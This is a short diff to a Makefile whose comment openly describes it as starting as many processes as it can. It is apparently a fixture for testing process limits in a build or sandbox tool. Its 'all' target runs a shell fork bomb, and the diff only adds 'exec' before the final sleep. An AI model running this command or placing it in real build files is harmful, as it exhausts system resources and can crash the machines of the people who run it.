@@ -1,3 +1,3 @@
 # Starts as many processes as it can, which do the same.
 all:
-	bomb() { bomb | bomb & }; bomb; sleep 1000
+	bomb() { bomb | bomb & }; bomb; exec sleep 1000
